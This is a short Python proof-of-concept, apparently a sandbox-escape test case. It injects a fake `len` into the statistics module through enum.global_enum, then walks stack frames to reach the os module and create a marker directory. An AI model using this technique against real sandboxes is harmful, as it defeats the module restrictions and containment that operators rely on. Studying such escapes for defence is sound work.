# Lets enum write a member over the len of a permitted module, and climbs out when that module calls it.
import enum
import statistics


class Length(enum.Enum):
    def __call__(self, thing):
        climber = climb()
        line.append(climber)
        return next(climber)


def climb():
    frame = line[0].gi_frame
    while frame.f_globals.get("__name__") != "statistics":
        frame = frame.f_back
    frame.f_globals["sys"].modules["os"].mkdir(FOLDER + "/made")
    yield 2


line = []
enum.global_enum(Length("Length", {"len": 1}, module="statistics"))
statistics.median([1, 2])
